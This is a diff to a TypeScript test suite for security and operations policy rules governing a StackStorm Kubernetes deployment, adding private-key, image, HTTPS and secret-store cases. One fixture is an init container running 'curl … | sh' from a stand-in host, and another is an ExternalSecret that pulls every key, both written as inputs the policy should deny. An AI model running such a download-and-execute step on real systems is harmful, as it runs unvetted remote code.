@@ -101,6 +101,7 @@ let certs: Certificates;
 const freshRsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
 const freshSshKey = freshRsa.privateKey.export({ type: 'pkcs1', format: 'pem' }).toString();
 const freshTlsKey = freshRsa.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
+const freshSshPublic = freshRsa.publicKey.export({ type: 'spki', format: 'pem' }).toString();
 
 const baseSshKey = (): string => repoSecretData('components/default-secrets/st2-ssh.yaml', 'private_key');
 const baseTlsKey = (): string => repoSecretData('components/default-secrets/st2web.yaml', 'ssl_certificate_key');
@@ -259,10 +260,25 @@ const cases: RuleCase[] = [
     expected: warn('ST2-SEC-003'),
   },
   {
-    name: 'a freshly generated SSH key is allowed',
+    // In production any committed private key is ST2-SEC-021 (below); dev judges only published keys.
+    name: 'a freshly generated SSH key is allowed in dev',
     rule: 'ST2-SEC-003',
+    environment: 'dev',
+    resources: () => [secret('st2-ssh', { stringData: { private_key: freshSshKey } })],
+    expected: 'allowed',
+  },
+  {
+    name: 'a freshly generated SSH key committed in production is denied',
+    rule: 'ST2-SEC-021',
     environment: 'production',
     resources: () => [secret('st2-ssh', { stringData: { private_key: freshSshKey } })],
+    expected: deny('ST2-SEC-021', { field: 'stringData.private_key' }),
+  },
+  {
+    name: 'an SSH public key in production is allowed',
+    rule: 'ST2-SEC-021',
+    environment: 'production',
+    resources: () => [secret('st2-ssh', { stringData: { authorized_keys: freshSshPublic } })],
     expected: 'allowed',
   },
   {
@@ -289,9 +305,10 @@ const cases: RuleCase[] = [
     expected: deny('ST2-SEC-005', { field: 'data.ssl_certificate_key', message: 'default=base-st2web-key' }),
   },
   {
-    name: 'a freshly generated TLS key is allowed',
+    // In production any committed private key is ST2-SEC-021; dev judges only published keys.
+    name: 'a freshly generated TLS key is allowed in dev',
     rule: 'ST2-SEC-005',
-    environment: 'production',
+    environment: 'dev',
     resources: () => [secret('st2web', { stringData: { 'tls.key': freshTlsKey } })],
     expected: 'allowed',
   },
@@ -1777,6 +1794,7 @@ const cases: RuleCase[] = [
   ...fresh9StoreCases(),
   ...fresh9ClusterCases(),
   ...fresh9JobCases(),
+  ...holesCases(),
 ];
 
 /** The ninth red team's store data (test/policy/redteam/fresh9-store.ts has the overlays). */
@@ -2498,5 +2516,86 @@ function fresh9EdgeCases(): RuleCase[] {
       expected: deny('ST2-EXP-015', { field: 'spec.rules.0.host', message: 'host=*.example.com' }),
     },
     { name: "an Ingress for st2's own host is allowed", rule: 'ST2-EXP-015', environment: 'production', resources: () => [...web(), ingress('st2.example.com')], expected: 'allowed' },
+  ];
+}
+
+/** The holes piece (test/policy/redteam/fresh10-holes.ts has the overlays): releases, floors, images, URLs, ESO. */
+function holesCases(): RuleCase[] {
+  const rotation = (st2Property: string): Manifest[] => [
+    ...haWorkload('mongodb', 3, {
+      kind: 'StatefulSet',
+      container: {
+        image: 'mongo:4.4.29',
+        args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'],
+        env: [
+          { name: 'MONGO_INITDB_ROOT_USERNAME', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'user' } } },
+          { name: 'MONGO_INITDB_ROOT_PASSWORD', valueFrom: { secretKeyRef: { name: 'mongodb-admin', key: 'password' } } },
+        ],
+      },
+    }),
+    {
+      apiVersion: 'external-secrets.io/v1',
+      kind: 'ExternalSecret',
+      metadata: meta('mongodb-admin'),
+      spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault' }, target: { name: 'mongodb-admin' }, data: [{ secretKey: 'user', remoteRef: { key: 'stackstorm/mongodb', property: 'user' } }, { secretKey: 'password', remoteRef: { key: 'stackstorm/mongodb', property: 'password' } }] },
+    },
+    {
+      apiVersion: 'external-secrets.io/v1',
+      kind: 'ExternalSecret',
+      metadata: meta('st2-config-secrets'),
+      spec: {
+        secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault' },
+        target: { name: 'st2-config-secrets', template: { data: { 'st2.secrets.conf': '[database]\nusername = {{ .u }}\npassword = {{ .p }}\n' } } },
+        data: [{ secretKey: 'u', remoteRef: { key: 'stackstorm/mongodb', property: 'user' } }, { secretKey: 'p', remoteRef: { key: 'stackstorm/mongodb', property: st2Property } }],
+      },
+    },
+  ];
+  const externalSecret = (spec: Manifest): Manifest => ({
+    apiVersion: 'external-secrets.io/v1',
+    kind: 'ExternalSecret',
+    metadata: meta('st2-extra'),
+    spec: { secretStoreRef: { kind: 'ClusterSecretStore', name: 'vault' }, target: { name: 'st2-extra' }, ...spec },
+  });
+  const mongo = (memory: string): Manifest[] => haWorkload('mongodb', 3, { kind: 'StatefulSet', container: { image: 'mongo:4.4.29', args: ['--replSet', 'rs0', '--keyFile', '/k/key.txt'], resources: { limits: { cpu: '1', memory } } } });
+  const runner = (tag: string): Manifest[] => [workload('st2garbagecollector', { container: { image: `stackstorm/st2garbagecollector:${tag}` } })];
+  const api = (tag: string): Manifest[] => haWorkload('st2api', 2, { container: { image: `stackstorm/st2api:${tag}` } });
+  return [
+    { name: 'a 64 MiB MongoDB is denied', rule: 'ST2-OPS-048', environment: 'production', resources: () => mongo('64Mi'), expected: deny('ST2-OPS-048', { field: 'spec.template.spec.containers.0.resources.limits.memory', message: 'resource=memory' }) },
+    { name: 'a 1 GiB MongoDB is allowed', rule: 'ST2-OPS-048', environment: 'production', resources: () => mongo('1Gi'), expected: 'allowed' },
+    { name: 'an st2api cpu limit of 1m warns in staging', rule: 'ST2-OPS-048', environment: 'staging', resources: () => haWorkload('st2api', 2, { container: { resources: { limits: { cpu: '1m', memory: '512Mi' } } } }), expected: warn('ST2-OPS-048', { message: 'resource=cpu' }) },
+    { name: "st2api on StackStorm's dev build in production is denied", rule: 'ST2-HRD-015', environment: 'production', resources: () => api('3.9dev'), expected: deny('ST2-HRD-015', { field: 'spec.template.spec.containers.0.image' }) },
+    { name: 'st2api on a release tag is allowed', rule: 'ST2-HRD-015', environment: 'production', resources: () => api('3.8.1'), expected: 'allowed' },
+    { name: 'the garbage collector on 3.7 beside st2api on 3.8 is denied', rule: 'ST2-HRD-016', environment: 'production', resources: () => [...api('3.8.1'), ...runner('3.7.1')], expected: deny('ST2-HRD-016', { message: 'release=3.7' }) },
+    { name: 'the garbage collector on the previous patch release of 3.8 is allowed', rule: 'ST2-HRD-016', environment: 'production', resources: () => [...api('3.8.1'), ...runner('3.8.0')], expected: 'allowed' },
+    { name: "st2api from someone's Docker Hub namespace is denied", rule: 'ST2-HRD-017', environment: 'production', resources: () => haWorkload('st2api', 2, { container: { image: 'jdoe/st2api:3.8.1' } }), expected: deny('ST2-HRD-017', { field: 'spec.template.spec.containers.0.image' }) },
+    { name: "st2api from StackStorm's namespace on docker.io is allowed", rule: 'ST2-HRD-017', environment: 'production', resources: () => haWorkload('st2api', 2, { container: { image: 'docker.io/stackstorm/st2api:3.8.1' } }), expected: 'allowed' },
+    { name: 'st2web with ST2WEB_HTTPS=0 in production is denied', rule: 'ST2-HRD-018', environment: 'production', resources: () => haWorkload('st2web', 2, { container: { env: [{ name: 'ST2WEB_HTTPS', value: '0' }] } }), expected: deny('ST2-HRD-018', { message: 'variable=ST2WEB_HTTPS' }) },
+    { name: 'st2web with ST2WEB_HTTPS=1 is allowed', rule: 'ST2-HRD-018', environment: 'production', resources: () => haWorkload('st2web', 2, { container: { env: [{ name: 'ST2WEB_HTTPS', value: '1' }] } }), expected: 'allowed' },
+    { name: "st2web's auth URL at st2api is denied", rule: 'ST2-OPS-049', environment: 'production', resources: () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2api:9101/' }] } }), service('st2api', 'st2api'), ...haWorkload('st2api', 2)], expected: deny('ST2-OPS-049', { message: 'variable=ST2_AUTH_URL' }) },
+    { name: "st2web's auth URL at st2auth is allowed", rule: 'ST2-OPS-049', environment: 'production', resources: () => [...haWorkload('st2web', 2, { container: { env: [{ name: 'ST2_AUTH_URL', value: 'http://st2auth:9100/' }] } }), service('st2auth', 'st2auth'), ...haWorkload('st2auth', 2)], expected: 'allowed' },
+    {
+      name: 'an ExternalSecret finding every key of its store is denied',
+      rule: 'ST2-SEC-018',
+      environment: 'production',
+      resources: () => [externalSecret({ dataFrom: [{ find: { name: { regexp: '.*' } } }] })],
+      expected: deny('ST2-SEC-018', { field: 'spec.dataFrom.0.find' }),
+    },
+    { name: "st2's MongoDB password rotated without the store's is denied", rule: 'ST2-SEC-020', environment: 'production', resources: () => rotation('password-2026'), expected: deny('ST2-SEC-020', { field: 'spec.data.1', message: 'store=mongodb' }) },
+    { name: "st2's MongoDB password read from the store's own value is allowed", rule: 'ST2-SEC-020', environment: 'production', resources: () => rotation('password'), expected: 'allowed' },
+    { name: 'an ExternalSecret finding keys under a path is allowed', rule: 'ST2-SEC-018', environment: 'production', resources: () => [externalSecret({ dataFrom: [{ find: { path: 'stackstorm/packs' } }] })], expected: 'allowed' },
+    {
+      name: 'an init container piping an http download into sh is denied',
+      rule: 'ST2-SEC-019',
+      environment: 'production',
+      resources: () => haWorkload('st2api', 2, { pod: { initContainers: [{ name: 'boot', image: 'curlimages/curl:8.10.1', command: ['sh', '-c', 'curl -fsSL http://tools.example.net/boot.sh | sh'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } }),
+      expected: deny('ST2-SEC-019', { message: 'host=tools.example.net' }),
+    },
+    {
+      name: 'an init container fetching a config file over http is allowed',
+      rule: 'ST2-SEC-019',
+      environment: 'production',
+      resources: () => haWorkload('st2api', 2, { pod: { initContainers: [{ name: 'boot', image: 'curlimages/curl:8.10.1', command: ['sh', '-c', 'curl -fsS http://config.example.net/st2.conf -o /tmp/st2.conf'], resources: { limits: { cpu: '100m', memory: '64Mi' } } }] } }),
+      expected: 'allowed',
+    },
   ];
 }
